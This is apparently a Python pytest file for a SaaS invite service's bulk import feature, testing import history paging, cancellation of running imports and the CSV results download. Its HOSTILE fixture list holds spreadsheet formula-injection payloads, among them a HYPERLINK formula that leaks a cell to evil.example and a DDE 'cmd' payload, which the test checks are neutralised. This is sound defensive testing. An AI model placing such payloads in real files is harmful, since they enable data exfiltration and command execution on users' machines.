"""Import history: an organization's imports newest first, cancelling a running one, its results as CSV."""

from __future__ import annotations

import csv
import io
import threading
from collections.abc import Iterator
from typing import Any

import boto3
import pytest

from local.stack import Stack
from paid_invites import csv_export
from paid_invites.store import import_records as import_store
from paid_invites.store import repository as repo
from paid_invites.usecases import bulk_import

from ..support import Api, wait_for

OWNER, ADMIN, MEMBER, GWEN = "u-olga", "u-arno", "u-mia", "u-gwen"
ACCOUNT, OTHER_TENANT = "acme", "globex"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cheap_rows(count: int, start: int = 0) -> str:
    """Rows the invite rejects (invalid_email) without starting workflows: many chunks, quickly."""
    return "".join(f"nobody-{i}\n" for i in range(start, start + count))


def real_rows(count: int, start: int = 0) -> str:
    return "".join(f"person{i}@bulk.example\n" for i in range(start, start + count))


def import_of(api: Api, import_id: str, caller: str = ADMIN) -> dict[str, Any]:
    reply = api.call(
        "GET", f"/accounts/{ACCOUNT}/invitations/imports/{import_id}", caller=caller, query={"limit": "1000"}
    )
    assert reply.status == 200, reply.body
    return dict(reply.json)


def executions_ended(stack: Stack, count: int, timeout: float = 30.0) -> list[dict[str, Any]]:
    """The import executions, once ``count`` of them exist and none runs."""
    arn = stack.state_machine_arns["ImportStateMachine"]

    def ended() -> list[dict[str, Any]] | None:
        found = boto3.client("stepfunctions").list_executions(stateMachineArn=arn)["executions"]
        return found if len(found) == count and all(e["status"] != "RUNNING" for e in found) else None

    result: list[dict[str, Any]] = wait_for(ended, timeout, "the import executions to end")
    return result


def uploaded(api: Api, body: str, caller: str = ADMIN, account: str = ACCOUNT) -> str:
    reply = api.upload_import(caller, account, body)
    assert reply.status == 202, reply.body
    return str(reply.json["id"])


def read_csv(reply: Any) -> list[list[str]]:
    return list(csv.reader(io.StringIO(reply.body.removeprefix(csv_export.BOM), newline="")))


class Gate:
    """A point a chunk stops at: ``reached`` once it is there, on from there once ``release`` is set."""

    def __init__(self) -> None:
        self.reached, self.release = threading.Event(), threading.Event()

    def pass_through(self) -> None:
        self.reached.set()
        self.release.wait(30)

    def wait(self) -> None:
        assert self.reached.wait(20), "the chunk did not get there"


@pytest.fixture
def gates(monkeypatch: pytest.MonkeyPatch) -> Iterator[dict[tuple[str, int], Gate]]:
    """Stops chunks deterministically: ``("begin", n)`` just before chunk n begins (before the transaction
    that checks the import runs), ``("store", n)`` after chunk n invited its rows and before it stores its
    results (a chunk in flight). A gate is held only when a test adds it."""
    held: dict[tuple[str, int], Gate] = {}
    begin, finish = import_store.begin_attempt, import_store.finish_chunk

    def begin_gated(import_id: str, number: int, *args: Any) -> Any:
        if ("begin", number) in held:
            held[("begin", number)].pass_through()
        return begin(import_id, number, *args)

    def finish_gated(import_id: str, number: int, *args: Any) -> bool:
        if ("store", number) in held:
            held[("store", number)].pass_through()
        stored: bool = finish(import_id, number, *args)
        return stored

    monkeypatch.setattr(import_store, "begin_attempt", begin_gated)
    monkeypatch.setattr(import_store, "finish_chunk", finish_gated)
    yield held
    for gate in held.values():
        gate.release.set()


# ---------------------------------------------------------------- the history


def test_an_organizations_imports_are_listed_newest_first_a_page_at_a_time(api: Api, stack: Stack) -> None:
    # Given three imports of Acme, an hour apart, and one of another organization
    ids = []
    for n in range(3):
        ids.append(uploaded(api, "email\n" + cheap_rows(2 + n)))
        stack.clock.advance(3600)
    theirs = uploaded(api, "email\n" + cheap_rows(1), caller=GWEN, account=OTHER_TENANT)
    executions_ended(stack, 4)
    # When an admin lists Acme's imports two at a time
    first = api.imports(ADMIN, ACCOUNT, limit="2")
    assert first.status == 200, first.body
    second = api.imports(ADMIN, ACCOUNT, limit="2", cursor=first.json["next_cursor"])
    # Then they come newest first, with their status and counts, and only Acme's
    listed = first.json["imports"] + second.json["imports"]
    assert [i["id"] for i in listed] == ids[::-1]
    assert second.json["next_cursor"] is None
    newest = listed[0]
    assert newest["status"] == "completed" and newest["account_id"] == ACCOUNT
    assert newest["totals"] == {"rows": 4, "processed": 4, "created": 0, "rejected": 4}
    assert [i["created_at"] for i in listed] == sorted((i["created_at"] for i in listed), reverse=True)
    assert theirs not in [i["id"] for i in listed]
    assert [i["id"] for i in api.imports(GWEN, OTHER_TENANT).json["imports"]] == [theirs]
    # and a cursor that is not this list's own is refused
    bad = api.imports(ADMIN, ACCOUNT, cursor="bm90LWEtY3Vyc29y")
    assert bad.status == 400 and bad.json["error"]["code"] == "invalid_cursor"
    stolen = api.imports(GWEN, OTHER_TENANT, cursor=first.json["next_cursor"])
    assert stolen.status == 400 and stolen.json["error"]["code"] == "invalid_cursor"


def test_an_organization_without_imports_has_an_empty_history(api: Api, stack: Stack) -> None:
    reply = api.imports(OWNER, ACCOUNT)
    assert reply.status == 200 and reply.json == {"imports": [], "next_cursor": None}


# ---------------------------------------------------------------- cancelling


def test_cancelling_between_chunks_keeps_what_was_created_and_invites_no_more(
    api: Api, stack: Stack, gates: dict[tuple[str, int], Gate]
) -> None:
    second = gates[("begin", 1)] = Gate()
    # Given an import of two chunks: two real people and 98 bad rows first, then 50 real people,
    # whose first chunk is done and whose second is about to begin
    import_id = uploaded(api, "email\n" + real_rows(2) + cheap_rows(98) + real_rows(50, start=100))
    second.wait()
    assert import_of(api, import_id)["totals"]["processed"] == 100
    # When an admin cancels it
    reply = api.cancel_import(ADMIN, ACCOUNT, import_id)
    second.release.set()
    # Then the import is cancelled, with the first chunk's counts
    assert reply.status == 200, reply.body
    assert reply.json["status"] == "cancelled" and reply.json["finished_at"]
    assert reply.json["totals"] == {"rows": 150, "processed": 100, "created": 2, "rejected": 98}
    # and the workflow ends without inviting the second chunk
    (execution,) = executions_ended(stack, 1)
    assert execution["status"] == "SUCCEEDED"
    done = import_of(api, import_id)
    assert done["status"] == "cancelled" and done["totals"] == reply.json["totals"]
    # and the two invitations it created stay; none of the second chunk's 50 people was invited
    pending, _ = repo.list_invitations(ACCOUNT, "pending", 200, None)
    assert sorted(i.email for i in pending) == ["person0@bulk.example", "person1@bulk.example"]
    statuses = [r["status"] for r in done["results"]]
    assert statuses == ["created"] * 2 + ["rejected"] * 98 + ["not_processed"] * 50
    # and running the second chunk again (a late retry) still invites nobody
    assert bulk_import.process_chunk(import_id, 1) == {"chunk": 1, "skipped": "cancelled"}
    assert len(repo.list_invitations(ACCOUNT, "pending", 200, None)[0]) == 2


def test_a_chunk_in_flight_when_the_cancel_comes_finishes_and_no_chunk_begins_after_it(
    api: Api, stack: Stack, gates: dict[tuple[str, int], Gate]
) -> None:
    in_flight = gates[("store", 0)] = Gate()
    # Given an import whose first chunk has invited its two people and not yet stored its results
    import_id = uploaded(api, "email\n" + real_rows(2) + cheap_rows(98) + real_rows(50, start=100))
    in_flight.wait()
    # When the owner cancels it then
    reply = api.cancel_import(OWNER, ACCOUNT, import_id)
    # Then the cancel is recorded at once, before the chunk's counts
    assert reply.status == 200, reply.body
    assert reply.json["status"] == "cancelled" and reply.json["totals"]["processed"] == 0
    # and the chunk in flight finishes: its results and counts are stored (the import stays cancelled)
    in_flight.release.set()
    executions_ended(stack, 1)
    done = import_of(api, import_id)
    assert done["status"] == "cancelled"
    assert done["totals"] == {"rows": 150, "processed": 100, "created": 2, "rejected": 98}
    # and the second chunk never began: its people are not invited
    pending, _ = repo.list_invitations(ACCOUNT, "pending", 200, None)
    assert sorted(i.email for i in pending) == ["person0@bulk.example", "person1@bulk.example"]


def test_cancelling_is_idempotent_and_a_finished_import_cannot_be_cancelled(
    api: Api, stack: Stack, gates: dict[tuple[str, int], Gate]
) -> None:
    # Given a finished import
    finished_id = uploaded(api, "email\n" + cheap_rows(3))
    executions_ended(stack, 1)
    assert import_of(api, finished_id)["status"] == "completed"
    # When an admin cancels it
    refused = api.cancel_import(ADMIN, ACCOUNT, finished_id)
    # Then it is refused with a code that says why, and it stays completed
    assert refused.status == 409, refused.body
    assert refused.json["error"]["code"] == "import_finished"
    assert refused.json["error"]["details"] == {"status": "completed"}
    assert import_of(api, finished_id)["status"] == "completed"
    # and a cancelled import cancelled again answers the same, unchanged
    gates[("begin", 0)] = Gate()
    running = uploaded(api, "email\n" + cheap_rows(250))
    gates[("begin", 0)].wait()
    first = api.cancel_import(ADMIN, ACCOUNT, running)
    gates[("begin", 0)].release.set()
    assert first.status == 200 and first.json["status"] == "cancelled", first.body
    executions_ended(stack, 2)
    again = api.cancel_import(OWNER, ACCOUNT, running)
    assert again.status == 200 and again.json == first.json
    assert import_of(api, running)["totals"]["processed"] == 0  # not one chunk began
    # and an unknown or malformed id is not found
    assert api.cancel_import(ADMIN, ACCOUNT, "0" * 32).status == 404
    assert api.cancel_import(ADMIN, ACCOUNT, "not-an-id").status == 404


# ---------------------------------------------------------------- the results file

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1)",
    "\t=1+2",
    "\r=3+4",
    "\uff1dSUM(1)",
]


def hostile_file() -> str:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")  # quotes a cell holding a CR
    writer.writerow(["email", "first_name", "last_name", "user_type", "role"])
    for n, payload in enumerate(HOSTILE):  # valid addresses, hostile names: created
        writer.writerow([f"hostile{n}@evil.example", payload, payload, "basic", "member"])
    for payload in HOSTILE:  # hostile addresses (and types, roles): rejected, shown back in the file
        writer.writerow([payload, payload, "x", payload, payload])
    writer.writerow(["valid@evil.example", "Ok", "=1", "=basic", ""])  # a hostile user type: rejected
    return out.getvalue()


def test_the_results_file_has_every_row_and_no_cell_a_spreadsheet_would_evaluate(api: Api, stack: Stack) -> None:
    # Given an import of names and addresses built to run as formulas in a spreadsheet
    import_id = uploaded(api, hostile_file())
    executions_ended(stack, 1)
    # When an admin downloads its results
    reply = api.import_results(ADMIN, ACCOUNT, import_id)
    # Then it is a CSV attachment
    assert reply.status == 200, reply.body
    headers = {k.lower(): v for k, v in reply.headers.items()}
    assert headers["content-type"].startswith("text/csv")
    assert headers["content-disposition"] == f'attachment; filename="import-{import_id}-results.csv"'
    # with every row of the file and its outcome
    header, *rows = read_csv(reply)
    assert header == [
        "row",
        "email",
        "first_name",
        "last_name",
        "user_type",
        "role",
        "status",
        "reason",
        "invitation_id",
        "warnings",
    ]
    by_row = {int(r[0]): dict(zip(header, r, strict=True)) for r in rows}
    count = 2 * len(HOSTILE) + 1
    assert sorted(by_row) == list(range(1, count + 1))
    assert [by_row[n]["status"] for n in range(1, count + 1)] == ["created"] * len(HOSTILE) + ["rejected"] * (
        len(HOSTILE) + 1
    )
    assert {by_row[n]["reason"] for n in range(len(HOSTILE) + 1, count)} == {"invalid_email"}
    assert by_row[count]["reason"] == "invalid_user_type"
    # and no cell begins with a character that starts a formula: each shows as the text it was
    for row in [header, *rows]:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), row
    assert by_row[1]["first_name"] == "'" + HOSTILE[0]
    assert by_row[3]["last_name"] == "'-1+1"
    assert by_row[len(HOSTILE) + 4]["email"] == "'@SUM(1)"
    assert by_row[count]["user_type"] == "'=basic"
    # and the people were invited under the names as given (only the file shows them neutralised)
    invitation = repo.get_invitation(by_row[1]["invitation_id"])
    assert invitation is not None and invitation.first_name == HOSTILE[0]


def test_a_cancelled_imports_results_show_the_rows_not_processed(
    api: Api, stack: Stack, gates: dict[tuple[str, int], Gate]
) -> None:
    second = gates[("begin", 1)] = Gate()
    # Given an import cancelled after its first chunk
    import_id = uploaded(api, "email\n" + cheap_rows(150))
    second.wait()
    assert api.cancel_import(ADMIN, ACCOUNT, import_id).status == 200
    second.release.set()
    executions_ended(stack, 1)
    # When the owner downloads its results
    header, *rows = read_csv(api.import_results(OWNER, ACCOUNT, import_id))
    # Then every row is there: the first chunk's with their outcome, the rest not processed
    status = header.index("status")
    assert [int(r[0]) for r in rows] == list(range(1, 151))
    assert [r[status] for r in rows] == ["rejected"] * 100 + ["not_processed"] * 50


@pytest.mark.parametrize(
    ("caller", "account", "status"), [(MEMBER, ACCOUNT, 403), (GWEN, ACCOUNT, 404), (GWEN, OTHER_TENANT, 404)]
)
def test_another_tenant_or_a_member_gets_no_results(
    api: Api, stack: Stack, caller: str, account: str, status: int
) -> None:
    import_id = uploaded(api, "email\n" + cheap_rows(1))
    executions_ended(stack, 1)
    reply = api.call("GET", f"/accounts/{account}/imports/{import_id}/results.csv", caller=caller)
    assert reply.status == status, reply.body
    assert reply.json["error"]["code"] in ("forbidden", "not_found")
